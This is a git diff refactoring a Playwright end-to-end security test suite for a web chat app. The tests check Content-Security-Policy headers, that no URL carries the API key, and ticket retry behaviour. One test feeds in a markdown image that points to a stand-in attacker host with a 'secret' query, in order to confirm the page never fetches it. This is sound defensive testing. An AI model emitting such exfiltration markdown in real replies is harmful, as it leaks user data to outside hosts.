@@ -1,6 +1,6 @@
-import { afterAll, afterEach, beforeAll, describe, expect, inject, test } from "vitest";
-import type { BrowserContext, Page } from "playwright-core";
-import { chromiumAvailable, makeUser, recordUrls, shot, signIn, startStack, type Stack, type TestUser } from "./support.ts";
+import { describe, expect, test } from "vitest";
+import type { Page } from "playwright-core";
+import { chromiumAvailable, recordUrls, shot, signIn, type Stack, stackForFile } from "./support.ts";
 
 const VARS = { OFFLINE_CHUNK_DELAY_MS: "5", TURN_RATE_LIMIT: "20", TURN_RATE_WINDOW_SECONDS: "60" };
 
@@ -8,31 +8,13 @@ const CSP =
   "default-src 'self'; img-src 'self' data:; connect-src 'self'; style-src 'self' 'unsafe-inline'; script-src 'self'; frame-ancestors 'none'; base-uri 'none'; form-action 'self'; object-src 'none'";
 const HEADERS = { "content-security-policy": CSP, "x-content-type-options": "nosniff", "referrer-policy": "no-referrer" };
 
-let stack: Stack;
-let base: string;
-const users: TestUser[] = [];
-
 const run = chromiumAvailable();
 
 describe.skipIf(!run)("web chat security in Chromium", () => {
-  beforeAll(async () => {
-    stack = await startStack(inject("databaseUrl"), VARS);
-    base = stack.worker.url;
-  });
-  const contexts: BrowserContext[] = [];
-  afterEach(async ({ task }) => {
-    if (task.result?.state === "fail")
-      for (const [i, page] of contexts.flatMap((c) => c.pages()).entries()) await shot(page, `FAILED-security-${task.name.slice(0, 40).replace(/\W+/g, "-")}-${i}`).catch(() => {});
-    await Promise.all(contexts.splice(0).map((c) => c.close()));
-  });
-  afterAll(async () => {
-    await Promise.all(users.map((u) => u.remove()));
-    await stack?.stop();
-  });
+  const e2e = stackForFile("security", () => VARS);
 
   async function newPage(options?: Parameters<Stack["browser"]["newContext"]>[0]): Promise<Page> {
-    const context = await stack.browser.newContext(options);
-    contexts.push(context);
+    const context = await e2e.newContext(options);
     const page = await context.newPage();
     // Anything the page tries that its Content-Security-Policy refuses (a remote image, an inline script) is kept here.
     await page.addInitScript(
@@ -42,8 +24,7 @@ describe.skipIf(!run)("web chat security in Chromium", () => {
   }
   const violations = (page: Page) => page.evaluate<string[]>("window.__csp");
   async function user(label: string) {
-    const u = await makeUser(base, label);
-    users.push(u);
+    const u = await e2e.newUser(label);
     return u;
   }
   const assistant = (page: Page) => page.locator("article.message.assistant").last();
@@ -57,28 +38,28 @@ describe.skipIf(!run)("web chat security in Chromium", () => {
   }
 
   test("the page, its assets and the single-page fallback carry the CSP, nosniff and no-referrer", async () => {
-    const html = await (await fetch(`${base}/`)).text();
+    const html = await (await fetch(`${e2e.base}/`)).text();
     const assets = [...html.matchAll(/(?:src|href)="(\/assets\/[^"]+)"/g)].map((m) => m[1]!);
     expect(assets.some((a) => a.endsWith(".js"))).toBe(true);
     expect(assets.some((a) => a.endsWith(".css"))).toBe(true);
     for (const path of ["/", "/index.html", "/?thread=00000000-0000-4000-8000-000000000000", "/some/deep/link", ...assets]) {
-      const res = await fetch(`${base}${path}`, { redirect: "manual" });
+      const res = await fetch(`${e2e.base}${path}`, { redirect: "manual" });
       expect(res.status, path).toBeLessThan(400);
       for (const [name, value] of Object.entries(HEADERS)) expect(res.headers.get(name), `${name} on ${path}`).toBe(value);
       await res.body?.cancel();
     }
-    const fallback = await fetch(`${base}/some/deep/link`);
+    const fallback = await fetch(`${e2e.base}/some/deep/link`);
     expect(fallback.headers.get("content-type")).toContain("text/html");
     expect(await fallback.text()).toContain('<div id="root"></div>');
     // The rules file configures the assets; it is not one of them.
-    expect(await (await fetch(`${base}/_headers`)).text()).not.toContain("Content-Security-Policy");
+    expect(await (await fetch(`${e2e.base}/_headers`)).text()).not.toContain("Content-Security-Policy");
   });
 
   test("signing in, opening a thread, chatting and reloading: no URL carries the API key; the WebSocket and history carry a ticket", async () => {
     const u = await user("urls");
     const page = await newPage();
     const seen = recordUrls(page);
-    await signIn(page, base, u);
+    await signIn(page, e2e.base, u);
     await page.getByRole("button", { name: "New thread" }).first().click();
     await ask(page, "Is anything in my documents about lighthouses?");
     await page.reload();
@@ -106,7 +87,7 @@ describe.skipIf(!run)("web chat security in Chromium", () => {
     const u = await user("image");
     const page = await newPage();
     const seen = recordUrls(page);
-    await signIn(page, base, u);
+    await signIn(page, e2e.base, u);
     await page.getByRole("button", { name: "New thread" }).first().click();
     // The offline model quotes the question in its reply, so the reply's markdown holds the image and the link.
     await ask(page, "What is ![the leak](https://evil.example/leak.png?what=secret) and [this page](https://evil.example/page)?");
@@ -122,7 +103,7 @@ describe.skipIf(!run)("web chat security in Chromium", () => {
     expect(await link.getAttribute("target")).toBe("_blank");
     await shot(page, "security-image-link");
     // Neither fetched nor even attempted (an attempt would be a CSP violation, not a request).
-    expect(seen.requests.filter((url) => new URL(url).origin !== base)).toEqual([]);
+    expect(seen.requests.filter((url) => new URL(url).origin !== e2e.base)).toEqual([]);
     expect(await violations(page)).toEqual([]);
   });
 
@@ -135,7 +116,7 @@ describe.skipIf(!run)("web chat security in Chromium", () => {
       refusals++;
       return route.fulfill({ status: 401, contentType: "application/json", body: JSON.stringify({ error: { code: "unauthorized", message: "invalid token" } }) });
     });
-    await signIn(page, base, u);
+    await signIn(page, e2e.base, u);
     await page.getByRole("button", { name: /^e2e refused/ }).click();
     const error = page.getByTestId("thread-error");
     await expect.poll(() => error.innerText()).toContain("Your API key is no longer accepted");
@@ -149,7 +130,7 @@ describe.skipIf(!run)("web chat security in Chromium", () => {
     await page.unroute("**/api/v1/threads/*/tickets");
     let failures = 0;
     await page.route("**/api/v1/threads/*/tickets", (route) => (++failures <= 2 ? route.abort("internetdisconnected") : route.continue()));
-    await page.goto(`${base}/?thread=${thread.id}`);
+    await page.goto(`${e2e.base}/?thread=${thread.id}`);
     await expect.poll(() => page.getByTestId("connection-banner").innerText()).toContain("The server cannot be reached; trying again.");
     await shot(page, "security-ticket-retrying");
     await expect.poll(() => page.getByText("Ask anything about your documents.").isVisible(), { timeout: 20_000 }).toBe(true);
@@ -168,7 +149,7 @@ describe.skipIf(!run)("web chat security in Chromium", () => {
     const u = await user("reconnect");
     const { thread } = await u.api("POST", "/api/v1/threads", { title: "e2e reconnect" });
     for (let i = 0; i < 3; i++) {
-      const res = await fetch(`${base}/api/v1/threads/${thread.id}/messages`, {
+      const res = await fetch(`${e2e.base}/api/v1/threads/${thread.id}/messages`, {
         method: "POST",
         headers: { authorization: `Bearer ${u.apiKey}`, "content-type": "application/json" },
         body: JSON.stringify({ text: `warm-up ${i} `.repeat(40) }),
@@ -184,7 +165,7 @@ describe.skipIf(!run)("web chat security in Chromium", () => {
       const server = ws.connectToServer();
       if (++sockets === 1) cut = () => void Promise.all([ws.close({ code: 1001 }), server.close()]).catch(() => {});
     });
-    await signIn(page, base, u);
+    await signIn(page, e2e.base, u);
     await page.getByRole("button", { name: /^e2e reconnect/ }).click();
     await page.locator("article.message.assistant").nth(2).waitFor();
     await page.getByRole("textbox", { name: "Message" }).fill("half a thought");
